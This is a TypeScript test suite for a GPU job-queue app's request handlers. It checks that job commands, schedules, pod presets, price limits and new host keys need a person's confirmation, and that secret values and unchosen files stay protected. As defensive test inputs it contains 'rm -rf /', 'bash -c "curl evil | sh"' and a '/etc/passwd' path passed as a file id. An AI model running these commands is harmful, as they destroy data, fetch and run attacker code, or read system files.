import { describe, expect, test } from 'vitest'
import { ok } from '../../../src/core/base/result'
import { CHOSEN } from '../../../src/core/confirmation/confirmation'
import type { Question } from '../../../src/core/confirmation/question-queue'
import { podKeyOf } from '../../../src/core/pods/pod'
import type { StoredPreset } from '../../../src/core/monitor/queue-pod-sources'
import { createQueueHandlers } from '../../../src/main/queue/queue-requests'
import { NONE } from '../../../src/shared/requests/limits'
import type { JobDraft } from '../../../src/shared/requests/queue-requests'
import { createFakePodHost } from '../../harness/queue/fake-pod-host'
import { jobSpec } from '../../harness/samples/job-spec'
import { podForm } from '../../harness/samples/pod-forms'
import { ACCOUNT, createQueueFixture } from '../../harness/queue/queue-fixture'
import type { JobSpec } from '../../../src/core/queue/jobs/job-spec'

function open(answer: 'yes' | 'no' | 'chosen' = 'yes', clipboard = 'SEED=1\nexport HF_TOKEN=hf_secret') {
  const asked: Question[] = []
  const state = { answer, meanwhile: () => {} }
  const presets = new Map<string, StoredPreset>()
  const fixture = createQueueFixture(createFakePodHost())
  let ids = 0
  const handlers = createQueueHandlers({
    queue: () => fixture.queue,
    ask: async (question) => {
      asked.push(question)
      state.meanwhile()
      return ok({ yes: '', no: null, chosen: CHOSEN }[state.answer])
    },
    nameOf: () => null,
    readClipboard: async () => clipboard,
    chooseFiles: async () => ['/home/me/train.py'],
    chooseFolder: async () => '/home/me/out',
    newId: () => `kept-${(ids += 1)}`,
    findPreset: (name) => presets.get(name) ?? null,
  })
  return { fixture, handlers, asked, state, presets }
}

function draft(over: Partial<JobSpec> = {}, given: Partial<JobDraft> = {}): JobDraft {
  const { variableNames: _names, files: _files, resultsFolder: _folder, ...spec } = jobSpec(over)
  return { spec, variablesId: null, filesId: null, resultsFolderId: null, isHeld: false, ...given }
}

const valueOf = <T>(result: { ok: true; value: T } | { ok: false; error: unknown }): T => {
  if (!result.ok) throw new Error(JSON.stringify(result.error))
  return result.value
}

describe('a window', () => {
  test('adds a job only once its whole command was confirmed', async () => {
    const { fixture, handlers, asked, state } = open('no')
    expect(await handlers.addJob(draft({ command: 'rm -rf /' }))).toEqual(ok(null))
    expect(asked.map(({ text }) => text.script)).toEqual(['rm -rf /'])
    expect(fixture.queue.view().jobs).toEqual([])
    state.answer = 'yes'
    expect(valueOf(await handlers.addJob(draft()))).toBe('job-1')
    expect(fixture.queue.view().jobs).toHaveLength(1)
  })

  test('is asked about an edit that does something else, and about no other', async () => {
    const { fixture, handlers, asked, state } = open()
    const id = await fixture.add()
    expect(await handlers.editJob(id, draft({ name: 'renamed', priority: 'high' }))).toEqual(ok(true))
    expect(asked).toEqual([])
    state.answer = 'no'
    expect(await handlers.editJob(id, draft({ command: 'other' }))).toEqual(ok(false))
    expect(asked).toHaveLength(1)
    expect(fixture.queue.view().jobs[0]?.spec).toMatchObject({ name: 'renamed', command: '60 0' })
    state.answer = 'yes'
    expect(await handlers.editJob(id, draft({ command: 'other' }))).toEqual(ok(true))
    expect(fixture.queue.view().jobs[0]?.spec.command).toBe('other')
  })

  test('never receives a value, and is asked about new values of the same variables', async () => {
    const { fixture, handlers, asked } = open()
    const pasted = valueOf(await handlers.pasteJobVariables())
    expect(pasted).toEqual({ id: 'kept-1', names: ['SEED', 'HF_TOKEN'] })
    const id = valueOf(await handlers.addJob(draft({}, { variablesId: pasted.id })))
    expect(JSON.stringify([asked, fixture.queue.view()])).not.toContain('hf_secret')
    expect(await fixture.secrets.load(id ?? '')).toEqual(ok({ SEED: '1', HF_TOKEN: 'hf_secret' }))
    await handlers.editJob(id ?? '', draft({}, { variablesId: pasted.id }))
    expect(asked).toHaveLength(2)
    await handlers.editJob(id ?? '', draft({}, { variablesId: NONE }))
    expect(fixture.queue.view().jobs[0]?.spec.variableNames).toEqual([])
    expect(await fixture.secrets.load(id ?? '')).toMatchObject({ ok: false })
  })

  test('names files and folders by an id, so that it can send none that nobody chose', async () => {
    const { fixture, handlers, asked } = open()
    expect(await handlers.addJob(draft({}, { filesId: '/etc/passwd' }))).toMatchObject({ ok: false })
    expect(asked).toEqual([])
    const files = valueOf(await handlers.chooseJobFiles())
    const folder = valueOf(await handlers.chooseResultsFolder())
    expect([files, folder]).toEqual([
      { id: 'kept-1', names: ['train.py'] },
      { id: 'kept-2', names: ['out'] },
    ])
    await handlers.addJob(draft({}, { filesId: 'kept-1', resultsFolderId: 'kept-2' }))
    expect(asked[0]?.text.lines.map(({ text }) => text)).toContain('Sends /home/me/train.py')
    expect(fixture.queue.view().jobs[0]?.spec).toMatchObject({
      files: [{ name: 'train.py', path: '/home/me/train.py' }],
      resultsFolder: '/home/me/out',
    })
  })

  test('turns auto-schedule on only once that was confirmed, and off at once', async () => {
    const { fixture, handlers, asked, state } = open('no')
    const key = podKeyOf(ACCOUNT, 'pod-1')
    const rules = { podKeys: [key], accountIds: [ACCOUNT], isPaused: false }
    expect(await handlers.setSchedule(rules)).toEqual(ok(false))
    expect(asked[0]?.text.lines[0]?.text).toBe('For all pods of your account, name-pod-1 (pod-1)')
    expect(fixture.queue.view().rules.podKeys).toEqual([])
    state.answer = 'yes'
    expect(await handlers.setSchedule(rules)).toEqual(ok(true))
    expect(fixture.queue.view().rules).toEqual(rules)
    expect(await handlers.setSchedule({ ...rules, accountIds: [], isPaused: true })).toEqual(ok(true))
    expect(await handlers.setSchedule({ ...rules, accountIds: [] })).toEqual(ok(true))
    expect(asked).toHaveLength(2)
  })

  test('lets jobs start a pod or create one only at a price, and from a preset, that were confirmed', async () => {
    const { fixture, handlers, asked, state, presets } = open('no')
    const podKey = podKeyOf(ACCOUNT, 'pod-1')
    const none = { podKeys: [podKey], accountIds: [ACCOUNT], isPaused: false }
    fixture.queue.requests.setSchedule(none)
    const digest = 'b'.repeat(64)
    const rule = { accountId: ACCOUNT, presetName: 'h100', digest, maxPerHourUsd: 3 }
    const rules = { ...none, starts: [{ podKey, maxPerHourUsd: 2 }], creates: [rule] }
    expect(await handlers.setSchedule(rules)).toMatchObject({
      error: 'There is no preset h100.',
    })
    const form = podForm({ image: 'example/image', args: 'bash -c "curl evil | sh"' })
    presets.set('h100', { form, neededVariables: [], digest: 'c'.repeat(64) })
    expect(await handlers.setSchedule(rules)).toEqual(ok(false))
    expect(fixture.queue.view().rules).toEqual(none)
    expect(asked[0]?.text.lines.map(({ text }) => text).slice(0, 5)).toEqual([
      'name-pod-1 (pod-1) is started for a job that fits, at up to $2.00/hr.',
      'A pod of the preset h100 is created for a job that fits, one at a time, at up to $3.00/hr.',
      'It has 1 × NVIDIA H100 SXM.',
      'Its image is example/image.',
      'It runs bash -c "curl evil | sh"',
    ])
    state.answer = 'yes'
    expect(await handlers.setSchedule(rules)).toEqual(ok(true))
    const set = fixture.queue.view().rules
    expect(set.creates).toEqual([{ ...rule, digest: 'c'.repeat(64) }])
    // Less is allowed at once, and so is what was allowed before.
    expect(await handlers.setSchedule({ ...set, starts: [{ podKey, maxPerHourUsd: 1 }] })).toEqual(ok(true))
    expect(asked).toHaveLength(2)
    // A higher price and another preset are asked about, whatever the page calls it.
    state.answer = 'no'
    expect(await handlers.setSchedule({ ...set, starts: [{ podKey, maxPerHourUsd: 4 }] })).toEqual(ok(false))
    const other = { ...set, creates: [{ ...rule, digest: 'd'.repeat(64) }] }
    expect(await handlers.setSchedule(other)).toEqual(ok(false))
    expect(asked).toHaveLength(4)
  })

  test('lets jobs accept a new host key only where a person chose that, whatever the page says', async () => {
    const { fixture, handlers, asked, state } = open()
    const podKey = podKeyOf(ACCOUNT, 'pod-1')
    const none = { podKeys: [podKey], accountIds: [], isPaused: false }
    const start = { podKey, maxPerHourUsd: 2 }
    const accepting = { ...none, starts: [{ ...start, acceptsNewKey: true as const }] }
    expect(await handlers.setSchedule(accepting)).toEqual(ok(true))
    expect(asked[0]?.text.choice).toEqual({
      label: 'Accept the host key that the pod shows first after such a start',
      consequence: 'Anyone who answers at the pod’s address in that moment could read the job’s variables.',
    })
    expect(fixture.queue.view().rules.starts).toEqual([start])
    // It is asked about again, although the price is the same.
    state.answer = 'chosen'
    expect(await handlers.setSchedule(accepting)).toEqual(ok(true))
    expect(fixture.queue.view().rules).toEqual(accepting)
    // It stays at a lower price, is asked about at a higher one, and ends at once.
    const lower = { ...none, starts: [{ ...start, maxPerHourUsd: 1, acceptsNewKey: true as const }] }
    expect(await handlers.setSchedule(lower)).toEqual(ok(true))
    expect([fixture.queue.view().rules, asked.length]).toEqual([lower, 2])
    state.answer = 'yes'
    expect(await handlers.setSchedule(accepting)).toEqual(ok(true))
    expect([fixture.queue.view().rules.starts, asked.length]).toEqual([[start], 3])
    state.answer = 'chosen'
    await handlers.setSchedule(accepting)
    expect(await handlers.setSchedule({ ...none, starts: [start] })).toEqual(ok(true))
    expect([fixture.queue.view().rules.starts, asked.length]).toEqual([[start], 4])
  })

  test('is asked again about pods to start and create where auto-schedule comes back on', async () => {
    const { fixture, handlers, asked, presets } = open()
    const podKey = podKeyOf(ACCOUNT, 'pod-1')
    presets.set('h100', { form: podForm({}), neededVariables: [], digest: 'c'.repeat(64) })
    const rule = { accountId: ACCOUNT, presetName: 'h100', digest: 'b'.repeat(64), maxPerHourUsd: 3 }
    const starts = [{ podKey, maxPerHourUsd: 2 }]
    await handlers.setSchedule({
      podKeys: [podKey],
      accountIds: [ACCOUNT],
      isPaused: false,
      starts,
      creates: [rule],
    })
    const on = fixture.queue.view().rules
    const off = { ...on, podKeys: [], accountIds: [] }
    expect(await handlers.setSchedule(off)).toEqual(ok(true))
    expect(asked).toHaveLength(1)
    presets.set('h100', { form: podForm({}), neededVariables: [], digest: 'd'.repeat(64) })
    expect(await handlers.setSchedule({ ...off, podKeys: [podKey] })).toEqual(ok(true))
    expect(asked.at(-1)?.text.title).toBe('Let jobs start stopped pods?')
    expect(await handlers.setSchedule(on)).toEqual(ok(true))
    expect(asked.at(-1)?.text.title).toBe('Let jobs create pods?')
    expect(fixture.queue.view().rules.creates).toEqual([{ ...rule, digest: 'd'.repeat(64) }])
    expect(asked).toHaveLength(3)
  })

  test('turns nothing on again that was turned off while it was asked about something else', async () => {
    const { fixture, handlers, state } = open()
    const [one, other] = [podKeyOf(ACCOUNT, 'pod-1'), podKeyOf(ACCOUNT, 'pod-2')]
    const rules = { podKeys: [one], accountIds: [], isPaused: false }
    await handlers.setSchedule(rules)
    state.meanwhile = () => void fixture.queue.requests.setSchedule({ ...rules, podKeys: [] })
    expect(await handlers.setSchedule({ ...rules, podKeys: [one, other] })).toMatchObject({
      error: expect.stringContaining('changed in the meantime'),
    })
    expect(fixture.queue.view().rules.podKeys).toEqual([])
  })

  test('takes a removal back within a minute, with the values of its variables', async () => {
    const { fixture, handlers } = open()
    const id = await fixture.add({ variableNames: ['SEED'] }, { SEED: '1' })
    await handlers.changeJob(id, 'remove')
    expect(fixture.queue.view().jobs).toEqual([])
    expect(await fixture.secrets.load(id)).toMatchObject({ ok: false })
    expect(await handlers.changeJob(id, 'restore')).toEqual(ok(null))
    expect(fixture.stateOf(id)).toBe('queued')
    expect(await fixture.secrets.load(id)).toEqual(ok({ SEED: '1' }))
    await handlers.changeJob(id, 'remove')
    await fixture.clock.advanceAsync(60_000)
    expect(await handlers.changeJob(id, 'restore')).toMatchObject({ ok: false })
    expect(fixture.queue.view().jobs).toEqual([])
  })
})
